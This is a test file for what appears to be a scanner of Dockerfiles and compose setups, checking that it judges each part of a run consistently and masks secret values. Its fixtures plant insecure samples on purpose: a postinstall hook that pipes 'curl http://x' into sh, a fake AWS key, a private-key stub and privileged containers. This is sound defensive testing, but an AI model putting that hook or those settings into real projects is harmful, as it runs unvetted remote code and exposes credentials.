import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import fc from "fast-check";
import { afterAll, describe, expect, it } from "vitest";
import { rules } from "../../rules/index.ts";
import { onDemand } from "../../src/check/on-demand.ts";
import { discover } from "../../src/discover/discover.ts";
import type { Piece } from "../../src/link/piece.ts";
import type { Judged } from "../../src/link/projects.ts";
import { prepare } from "../../src/link/run.ts";
import { judgePiece, type Part, together } from "../../src/triage/part.ts";

const home = mkdtempSync(join(tmpdir(), "seaworthy-part-"));
afterAll(() => rmSync(home, { recursive: true }));
let count = 0;

/** A run over files that lie in a repository, every time from the beginning. */
async function runOver(files: Readonly<Record<string, string>>) {
  const cwd = join(home, String(count++));
  mkdirSync(join(cwd, ".git"), { recursive: true });
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(cwd, path)), { recursive: true });
    writeFileSync(join(cwd, path), text);
  }
  return async () => {
    const { found, surroundings } = await discover({ cwd, paths: ["."], gitignore: true, followsBuilds: true });
    const judged = found.filter((each): each is (typeof found)[number] & Judged => each.kind !== undefined);
    const run = await prepare(found, judged, (path, error) => expect.unreachable(`${path}: ${error}`), surroundings);
    return { run, judge: (piece: Piece) => judgePiece(run, piece, { needed: onDemand(rules), scopes: [], edits: true, weighs: false }) };
  };
}

/** The same without what tells who read a text first. */
const plain = ({ values, brought, ...rest }: Part) => ({ ...rest, values: [...values], brought: brought.map(({ source }) => source.path) });

const secret = `AKIA${"Q3EGRIBL5W4XN7TZ"}`;
const files = {
  ".env": "TAG=1\n",
  ".dockerignore": "*.md\n",
  // One names what lies around it, and so reads it; the others do not.
  "a.Dockerfile": 'FROM python:3.12\nCOPY . /app\nCOPY run.sh /run.sh\nRUN pip install -r requirements.txt\nCMD ["/run.sh"]\n',
  "b.Dockerfile": 'FROM python:3.12\nRUN pip install -r requirements.txt\nCMD ["/run.sh"]\n',
  "c.Dockerfile": "FROM alpine:3.20\nCOPY . .\nADD outside /x\n",
  "run.sh": `#!/bin/sh\nexport AWS_ACCESS_KEY_ID=${secret}\nset -x\nexec python app.py\n`,
  "requirements.txt": "flask==1.0\n--extra-index-url http://pypi.example.com\n",
  id_rsa: "-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n",
  "web/compose.yaml": "services:\n  web:\n    build: .\n    privileged: true\n    environment: {TOKEN: hG7kQ2pZx9}\n",
  "web/Dockerfile": "FROM node:20\nCOPY . .\nRUN npm install\n",
  "web/compose.prod.yaml": "services:\n  web:\n    restart: always\n",
  "web/package.json": '{"scripts": {"postinstall": "curl http://x | sh"}}\n',
  "supervised/Dockerfile": 'FROM alpine:3.22\nCOPY supervisord.conf notes.txt /etc/\nCMD ["supervisord", "-c", "/etc/supervisord.conf"]\n',
  "supervised/supervisord.conf": "[program:web]\ncommand=/app/web\n[program:worker]\ncommand=/app/worker\nuser=app\n",
  "supervised/notes.txt": "nothing\n",
  "api/compose.yaml": "services:\n  api:\n    build: ../web\n    network_mode: host\n",
};

describe("a part of a run", () => {
  it("is the same whatever was judged before it", async () => {
    const open = await runOver(files);
    const first = await open();
    const starts = await Promise.all(first.run.starts().map(first.judge));
    const built = new Set(starts.flatMap((part) => part.built));
    expect([...built]).toEqual(["web/Dockerfile"]);
    const pieces = [...first.run.starts(), ...first.run.others(built)];
    expect(pieces.map((piece) => piece.files.join(" ")).sort()).toEqual([
      ".dockerignore",
      "a.Dockerfile",
      "api/compose.yaml",
      "b.Dockerfile",
      "c.Dockerfile",
      "supervised/Dockerfile",
      "web/compose.prod.yaml",
      "web/compose.yaml",
    ]);
    const alone = new Map<Piece, unknown>();
    for (const piece of pieces) {
      const part = await (await open()).judge(piece);
      expect([part.failures, part.pairs.length > 0]).toEqual([[], true]);
      alone.set(piece, plain(part));
    }
    await fc.assert(
      fc.asyncProperty(fc.shuffledSubarray(pieces, { minLength: 2 }), async (some) => {
        const { judge } = await open();
        for (const piece of some) expect(plain(await judge(piece))).toEqual(alone.get(piece));
      }),
      { numRuns: 15 },
    );
  }, 60_000);

  it("is plain data, as is what it is planned from", async () => {
    const { run, judge } = await (await runOver(files))();
    for (const piece of [...run.starts(), ...run.others(new Set())]) {
      expect(structuredClone(piece)).toEqual(piece);
      const { brought, ...part } = await judge(piece);
      expect(structuredClone(part)).toEqual(part);
      expect(brought.every(({ document }) => document === undefined)).toBe(true);
    }
  });

  it("holds those texts alone that its findings point into", async () => {
    const { run, judge } = await (await runOver(files))();
    const brought = async (path: string): Promise<string[]> => {
      const piece = run.others(new Set()).find((each) => each.files.includes(path)) as Piece;
      return (await judge(piece)).brought.map(({ source }) => source.path);
    };
    expect(await brought("supervised/Dockerfile")).toEqual(["supervised/supervisord.conf"]);
    expect(await brought("a.Dockerfile")).toEqual([]);
  });
});

describe("what parts come to", () => {
  const part = (more: Partial<Part>): Part => ({
    ...{
      pairs: [],
      suppressions: [],
      weighed: [],
      open: [],
      subjects: [],
      unjudged: [],
      skipped: [],
      limits: [],
      failures: [],
      places: [],
      values: new Set<string>(),
      judged: [],
    },
    ...{ built: [], brought: [], notices: [], unread: [], ...more },
  });
  const notice = (path: string, message: string) => ({ path, message });

  it.each<[string, Partial<Part>[], Partial<Record<keyof ReturnType<typeof together>, unknown>>]>([
    [
      "a limit twice",
      [{ limits: [notice("a", "m")] }, { limits: [notice("a", "m"), notice("a", "n")] }],
      { limits: [notice("a", "m"), notice("a", "n")] },
    ],
    [
      "what is told of a file by several",
      [{ notices: [notice("a", "m")] }, { notices: [notice("a", "m"), notice("b", "m")] }],
      { told: [notice("a", "m"), notice("b", "m")] },
    ],
    [
      "what failed and is told",
      [{ unread: [notice("a", "m")] }, { notices: [notice("a", "n")] }],
      { unread: [notice("a", "m")], told: [] },
    ],
    [
      "places of one file",
      [{ places: [{ file: "a", start: 0, end: 1 }] }, { places: [{ file: "a", start: 2, end: 3 }] }],
      {
        secrets: new Map([
          [
            "a",
            [
              { file: "a", start: 0, end: 1 },
              { file: "a", start: 2, end: 3 },
            ],
          ],
        ]),
      },
    ],
    ["why a file is not judged", [{ skipped: [["a", "w"]] }, { skipped: [["a", "w"]] }], { skipped: new Map([["a", "w"]]) }],
    ["failures", [{ failures: [notice("b", "m")] }, { failures: [notice("a", "m")] }], { failures: [notice("b", "m"), notice("a", "m")] }],
  ])("is %s", (_, parts, expected) => {
    expect(together(parts.map(part))).toMatchObject(expected);
  });

  it("masks what any of them knows", () => {
    expect(together([part({}), part({ values: new Set(["hunter22"]) })]).mask.message("it is hunter22")).toBe("it is ********");
  });
});
